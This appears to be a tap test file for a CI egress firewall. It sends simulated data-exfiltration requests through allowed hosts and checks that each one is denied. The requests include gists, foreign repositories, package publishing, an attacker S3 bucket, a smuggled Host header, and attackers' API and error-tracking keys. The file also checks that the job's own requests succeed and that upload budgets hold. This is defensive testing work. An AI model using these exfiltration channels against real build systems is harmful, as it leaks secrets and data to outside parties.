/**
 * Rows 48 and 98 to 103: hosts that a build needs, as a drop for somebody else. Rules over requests
 * bound paths and methods, `token: job` the account, `up` the amount.
 */
import { writeFileSync } from "node:fs"
import { join } from "node:path"
import t from "tap"
import type { Zone } from "../../lab/places.ts"
import { places, twins } from "../../lab/places.ts"
import { canary, guarded, labFor, whyNoLab } from "./harness.ts"
import { allTries, inline, words, type Try } from "./requests.ts"
import { script } from "./ways.ts"

t.setTimeout(300_000)
const skip = whyNoLab() ?? false

const good = { a: [places.good], aaaa: [twins.good] }
/** Stand-ins for the hosts that builds reach everywhere. All of them answer all that is asked. */
const zone: Zone = Object.fromEntries(
  [
    ...["api.github.test", "github.test", "uploads.github.test"],
    ...[
      "npm.test",
      "pypi.test",
      "ghcr.test",
      "llm.test",
      "hooks.test",
      "ingest.test",
      "forms.test",
    ],
    ...["mine.s3.test", "attacker.s3.test", "s3.test", "sts.test"],
  ].map((name) => [name, good]),
)

/** As GitHub makes them; nobody's. */
const jobToken = `ghs_${"Jo8".repeat(12)}`
const foreignToken = `ghp_${"Ev1".repeat(12)}`
const jobKey = `sk-job-${"a1B2".repeat(10)}`
const foreignKey = `sk-foreign-${"Z9y8".repeat(10)}`

const policy = `allow:
  - to: https://api.github.test/repos/me/mine/**
    token: job
  - https://github.test/me/mine/info/**
  - POST https://github.test/me/mine/git-upload-pack
  - to: POST https://api.github.test/graphql
    token: job
  - to: GET,HEAD https://npm.test/**
    token: job
  - GET,HEAD https://pypi.test/simple/**
  - GET,HEAD https://ghcr.test/v2/**
  - to: https://mine.s3.test/**
    token: job
  - https://s3.test/mine/**
  - to: https://llm.test/v1/**
    token: job
  - POST https://hooks.test/services/T1/B1/mine
  - to: https://ingest.test/api/1/**
    token: job
deny:
  - POST,PUT,PATCH,DELETE https://api.github.test/repos/me/mine/collaborators/**
`
const hosts = Object.keys(zone)

interface Sent {
  readonly method: string
  readonly host: string
  readonly path: string
  /** Lines of fields, each with its end. */
  readonly fields?: string
  /** {w} is the canary; it may stand in path or fields instead. */
  readonly body?: string
}

/** A request that is to be denied. */
function sending(name: string, reason: Try["reason"], sent: Sent, more: Partial<Try> = {}): Try {
  const { method, host, path, fields = "", body = "" } = sent
  const text = `${method} ${path} HTTP/1.1\r\nHost: ${host}\r\n${fields}`
  const length = body.replaceAll("{w}", "x".repeat(22)).length
  const bytes = `${text}${body === "" ? "" : `Content-Length: ${length}\r\n`}\r\n${body}`
  return {
    name,
    lines: `reply = secure(${inline(bytes)}, 443, "${host}")`,
    reason,
    reply: /HTTP\/1\.1 403 /,
    ...more,
  }
}

const bearer = (token: string): string => `Authorization: Bearer ${token}\r\n`
const basic = (user: string, password: string): string =>
  `Authorization: Basic ${Buffer.from(`${user}:${password}`).toString("base64")}\r\n`
const json = `{"content":"{w}"}`
const api = "api.github.test"
const foreign = "token-not-allowed"
const path = "path-not-allowed"
const method = "method-not-allowed"

const drops: readonly Try[] = [
  ...[
    ["a gist", "/gists/x"],
    ["a file in another repository", "/repos/evil/drop/contents/x"],
    ["an issue in another repository", "/repos/evil/drop/issues/x"],
    ["a fork into another account", "/repos/evil/drop/forks/x"],
    ["a repository of its own", "/user/repos/x"],
    ["an import", "/repos/evil/drop/import/x"],
    ["a look-alike of the repository", "/repos/me/mine-evil/contents/x"],
  ].map(([what = "", where = ""]) =>
    sending(`row 98: ${what}`, path, {
      ...{ method: "POST", host: api, path: where, body: json },
      fields: bearer(foreignToken),
    }),
  ),
  ...[
    ["Bearer", bearer(foreignToken)],
    ["token", `Authorization: token ${foreignToken}\r\n`],
    ["a password", basic("x-access-token", foreignToken)],
    ["a user's name", basic(foreignToken, "x-oauth-basic")],
    ["a field of another name", `Private-Token: ${foreignToken}\r\n`],
    ["a cookie", `Cookie: user_session=${foreignToken}\r\n`],
    ["two fields, one of them the job's", `${bearer(jobToken)}Private-Token: ${foreignToken}\r\n`],
    ["a token that begins as the job's does", bearer(`${jobToken}x`)],
    ["the job's token in other case", bearer(jobToken.toUpperCase())],
  ].map(([what = "", fields = ""]) =>
    sending(`row 98: an attacker's account at the job's own repository, by ${what}`, foreign, {
      ...{ method: "PUT", host: api, path: "/repos/me/mine/contents/x", body: json, fields },
    }),
  ),
  sending("row 98: an attacker's account, by the query", foreign, {
    ...{ method: "POST", host: api, body: json },
    path: `/repos/me/mine/issues/x?access_token=${foreignToken}`,
  }),
  sending("row 98: an invitation to the job's own repository", "denied-by-rule", {
    ...{ method: "PUT", host: api, path: "/repos/me/mine/collaborators/x", body: json },
    fields: bearer(jobToken),
  }),
  sending("row 98: a push to another repository", path, {
    ...{
      method: "POST",
      host: "github.test",
      path: "/evil/drop/x/git-receive-pack",
      body: "{w}",
    },
    fields: basic("x-access-token", foreignToken),
  }),
  sending("row 98: a push to the repository that may be fetched", path, {
    ...{ method: "POST", host: "github.test", path: "/me/mine/git-receive-pack/x", body: "{w}" },
  }),
  sending("row 98: a batch of large files", path, {
    ...{ method: "POST", host: "github.test", path: "/evil/drop/info/lfs/objects/batch/x" },
    body: "{w}",
  }),
  sending(
    "row 98: a release's asset",
    "name-not-allowed",
    {
      ...{
        method: "POST",
        host: "uploads.github.test",
        path: "/repos/evil/drop/releases/1/assets",
      },
      body: "{w}",
    },
    { reply: /./ },
  ),
  sending("row 99: a mutation over GraphQL from an attacker's account", foreign, {
    ...{ method: "POST", host: api, path: "/graphql", fields: bearer(foreignToken) },
    body: `{"query":"mutation{createGist(input:{content:\\"{w}\\"}){id}}"}`,
  }),
  sending("row 99: GraphQL at a host that no rule names it for", path, {
    ...{ method: "POST", host: "github.test", path: "/x/graphql", body: "{w}" },
  }),
  sending("row 100: a package is published", method, {
    ...{ method: "PUT", host: "npm.test", path: "/left-padder/x", body: json },
    fields: bearer(`npm_${"Ev1".repeat(12)}`),
  }),
  sending("row 100: a package is fetched with an attacker's token", foreign, {
    ...{ method: "GET", host: "npm.test", path: "/left-padder/{w}" },
    fields: bearer(`npm_${"Ev1".repeat(12)}`),
  }),
  sending("row 100: an upload to an index of packages", path, {
    ...{ method: "POST", host: "pypi.test", path: "/legacy/x", body: "{w}" },
    fields: basic("__token__", "pypi-AgEIcHlwaS5vcmc"),
  }),
  ...["POST", "PATCH", "PUT"].map((word) =>
    sending(`row 100: a layer of an image, by ${word}`, method, {
      ...{ method: word, host: "ghcr.test", path: "/v2/evil/drop/blobs/uploads/x", body: "{w}" },
    }),
  ),
  sending(
    "row 101: another bucket under the same suffix",
    "name-not-allowed",
    {
      ...{ method: "PUT", host: "attacker.s3.test", path: "/x", body: "{w}" },
    },
    { reply: /./ },
  ),
  sending("row 101: another bucket in the path", path, {
    ...{ method: "PUT", host: "s3.test", path: "/attacker/x", body: "{w}" },
  }),
  sending(
    "row 101: another bucket in Host",
    "host-mismatch",
    {
      ...{ method: "PUT", host: "mine.s3.test", path: "/x", body: "{w}" },
    },
    {
      lines: `reply = secure(${inline("PUT /x HTTP/1.1\r\nHost: attacker.s3.test\r\nContent-Length: 22\r\n\r\n{w}")}, 443, "mine.s3.test")`,
      reply: /HTTP\/1\.1 421 /,
    },
  ),
  sending("row 101: a URL that an attacker has signed", foreign, {
    ...{ method: "PUT", host: "mine.s3.test", body: "{w}" },
    path: `/x/x?X-Amz-Credential=AKIA${"EVIL".repeat(4)}&X-Amz-Signature=${"0f".repeat(32)}`,
  }),
  sending(
    "row 101: an attacker's account asked who it is",
    "name-not-allowed",
    {
      ...{ method: "POST", host: "sts.test", path: "/", body: "{w}" },
    },
    { reply: /./ },
  ),
  ...[
    ["x-api-key", `x-api-key: ${foreignKey}\r\n`],
    ["Bearer", bearer(foreignKey)],
    ["both keys", `x-api-key: ${jobKey}\r\n${bearer(foreignKey)}`],
  ].map(([what = "", fields = ""]) =>
    sending(`row 102: a model asked with an attacker's key, by ${what}`, foreign, {
      ...{ method: "POST", host: "llm.test", path: "/v1/messages/x", fields, body: json },
    }),
  ),
  sending("row 103: another's hook", path, {
    ...{ method: "POST", host: "hooks.test", path: "/services/T9/B9/x", body: json },
  }),
  sending("row 103: another's project of errors", path, {
    ...{ method: "POST", host: "ingest.test", path: "/api/666/envelope/x", body: json },
  }),
  sending("row 103: another's key for errors, in the query", foreign, {
    ...{ method: "POST", host: "ingest.test", body: json },
    path: `/api/1/envelope/x?sentry_key=${"e".repeat(32)}`,
  }),
  sending("row 103: another's key for errors, in a field", foreign, {
    ...{ method: "POST", host: "ingest.test", path: "/api/1/envelope/x", body: json },
    fields: `X-Sentry-Auth: Sentry sentry_key=${"e".repeat(32)}\r\n`,
  }),
  sending(
    "row 103: a form",
    "name-not-allowed",
    {
      ...{ method: "POST", host: "forms.test", path: "/forms/d/e/evil/formResponse", body: "{w}" },
    },
    { reply: /./ },
  ),
]

/** What the job does with its own tokens, and must be able to. */
const honest: readonly Sent[] = [
  { method: "GET", host: api, path: "/repos/me/mine/contents/x", fields: bearer(jobToken) },
  {
    method: "GET",
    host: api,
    path: "/repos/me/mine/contents/x",
    fields: basic("x-access-token", jobToken),
  },
  {
    method: "GET",
    host: api,
    path: "/repos/me/mine/contents/x",
    fields: `Authorization: token ${jobToken}\r\n`,
  },
  { method: "GET", host: api, path: "/repos/me/mine/contents/x" },
  { method: "POST", host: api, path: "/graphql", fields: bearer(jobToken), body: "{}" },
  { method: "GET", host: "npm.test", path: "/left-padder" },
  {
    method: "POST",
    host: "llm.test",
    path: "/v1/messages",
    fields: `x-api-key: ${jobKey}\r\n`,
    body: "{}",
  },
  { method: "POST", host: "hooks.test", path: "/services/T1/B1/mine", body: "{}" },
]

t.test("channels", { skip, timeout: 290_000 }, async (t) => {
  const lab = await labFor(t, { zone })
  const keyFile = join(lab.directory, "key")
  writeFileSync(keyFile, `${jobKey}\n`)
  const options = ["--job-token-file", keyFile]
  const environment = { GITHUB_TOKEN: jobToken }

  await t.test("rows 98 to 103: an allowed host as a drop", (t) =>
    allTries(t, lab, { more: policy, whole: hosts, wholeMore: "", options, environment }, drops),
  )

  await t.test("rows 98 to 102: the job's own requests are served", async (t) => {
    const lines = honest.map(({ method: verb, host, path: where, fields = "", body = "" }) => {
      const length = body === "" ? "" : `Content-Length: ${body.length}\r\n`
      const text = `${verb} ${where} HTTP/1.1\r\nHost: ${host}\r\n${fields}${length}\r\n${body}`
      return `print(secure(${inline(text)}, 443, "${host}")[:12])`
    })
    const { stdout, events } = await guarded(
      lab,
      { mode: "block", more: policy, options, environment, timeoutMs: 60_000 },
      script(words, ...lines),
    )
    t.strictSame(stdout.trimEnd().split("\n"), Array<string>(honest.length).fill("b'HTTP/1.1 200'"))
    const told = events.filter((event) => event.kind === "request")
    t.strictSame(
      told.map(({ token }) => token),
      ["job", "job", "job", "none", "job", "none", "job", "none"],
    )
    const log = JSON.stringify(events)
    for (const secret of [jobToken, jobKey]) t.notOk(log.includes(secret), "no token in the log")
  })

  await t.test(
    "row 101: a wildcard over names that anyone can register is no policy",
    async (t) => {
      for (const name of ["*.s3.amazonaws.com", "*.blob.core.windows.net"]) {
        const { status, stdout, stderr } = await guarded(
          lab,
          { mode: "block", allow: [`https://${name}/**`] },
          ["echo", "started"],
        )
        t.equal(status, 125)
        t.equal(stdout, "")
        t.match(stderr, /wide/)
      }
    },
  )

  await t.test("rows 48 and 98: an amount that may be sent", async (t) => {
    const rule = (to: string, up: string): string => `  - to: ${to}\n    up: ${up}\n`
    const budgets = `allow:\n${rule("POST https://hooks.test/**", "200kB")}${rule("GET https://npm.test/**", "10kB")}${rule("POST https://llm.test/**", "200kB")}`
    const big = 600_000
    const sends = (word: string): string[] =>
      script(
        words,
        `word = b"${word}"`,
        // The canary stands behind what the rule lets out.
        `def post(host, alpn): return secure(b"POST /x HTTP/1.1\\r\\nHost: " + host.encode() + b"\\r\\nContent-Length: ${big + word.length}\\r\\n\\r\\n" + b"x" * ${big} + word, 443, host, wait=2)`,
        `for n in range(2):`,
        `    try: print(post("hooks.test", "http/1.1")[:12])`,
        `    except OSError: print("reset")`,
        `try:`,
        `    with socket.create_connection(("198.51.100.10", 443), 5) as raw, trusting(("h2",)).wrap_socket(raw, server_hostname="llm.test") as s:`,
        `        s.settimeout(3); s.sendall(preface)`,
        // A client that keeps to the window that it is given (RFC 9113 §6.9), 65,535 bytes at first.
        `        s.sendall(frame(1, 4, 1, get("/x", "llm.test", method="POST")))`,
        `        windows, sent, seen, parts = [65535, 65535], 0, b"", [b"x" * 16000] * 40 + [word]`,
        `        while parts:`,
        `            while parts and min(windows) >= len(parts[0]):`,
        `                part = parts.pop(0); s.sendall(frame(0, 0 if parts else 1, 1, part)); windows = [w - len(part) for w in windows]`,
        `            if not parts: break`,
        `            more = s.recv(65535)`,
        `            if not more: break`,
        `            seen += more`,
        `            while len(seen) >= 9 and len(seen) >= 9 + int.from_bytes(seen[:3], "big"):`,
        `                length = int.from_bytes(seen[:3], "big"); kind = seen[3]; flags = seen[4]; stream = int.from_bytes(seen[5:9], "big"); payload = seen[9:9 + length]; seen = seen[9 + length:]`,
        `                if kind == 8: windows[1 if stream else 0] += int.from_bytes(payload, "big")`,
        `                if kind == 4 and not flags & 1:`,
        `                    s.sendall(frame(4, 1, 0))`,
        `                    for at in range(0, length, 6):`,
        `                        if payload[at:at + 2] == b"\\0\\4": windows[1] += int.from_bytes(payload[at + 2:at + 6], "big") - 65535`,
        `                if kind in (3, 7): parts = []`,
        `        rest(s, 1)`,
        `except OSError: pass`,
        `for n in range(100):`,
        `    try: secure(b"GET /q?" + b"x" * 400 + (word if n == 99 else b"") + b" HTTP/1.1\\r\\nHost: npm.test\\r\\nConnection: close\\r\\n\\r\\n", 443, "npm.test", wait=2)`,
        `    except OSError: pass`,
      )
    const arrived = async (word: string): Promise<string[]> => {
      await lab.seen(word)
      const http = (await lab.seen(word)).filter(({ kind }) => kind === "http")
      return [
        ...new Set(http.flatMap(({ text }) => /hooks\.test|npm\.test|llm\.test/.exec(text) ?? [])),
      ].toSorted()
    }
    const all = ["hooks.test", "llm.test", "npm.test"]
    const free = canary()
    await lab.run(sends(free), { timeoutMs: 60_000 })
    t.strictSame(await arrived(free), all, "arrives without a firewall")
    const word = canary()
    const block = await guarded(
      lab,
      { mode: "block", more: budgets, timeoutMs: 60_000 },
      sends(word),
    )
    t.strictSame(await arrived(word), [], "does not arrive in block mode")
    for (const host of all) {
      const requests = block.events.filter((event) => event.kind === "request")
      const told = requests.filter((event) => event.host === host && event.verdict === "deny")
      t.ok(told.length > 0, `${host}: is told`)
      t.ok(
        told.every(({ reason }) => reason === "upload-budget-exceeded"),
        "and why",
      )
      const sent = requests
        .filter((event) => event.host === host)
        .reduce((sum, { bytesSent }) => sum + bytesSent, 0)
      t.ok(sent <= (host === "npm.test" ? 10_000 : 1_000_000), `${host}: ${sent} bytes were sent`)
      t.ok(sent > 0, "but not from the beginning")
    }
    const watched = canary()
    const audit = await guarded(
      lab,
      { mode: "audit", more: budgets, timeoutMs: 60_000 },
      sends(watched),
    )
    t.strictSame(await arrived(watched), all, "arrives in audit mode")
    for (const host of all) {
      const told = audit.events.filter(
        (event) =>
          event.kind === "request" &&
          event.host === host &&
          event.reason === "upload-budget-exceeded",
      )
      t.ok(told.length > 0, `${host}: audit says the same`)
      t.ok(
        told.every((event) => "enforced" in event && !(event.enforced ?? true)),
        "and that it was not enforced",
      )
    }
  })
})
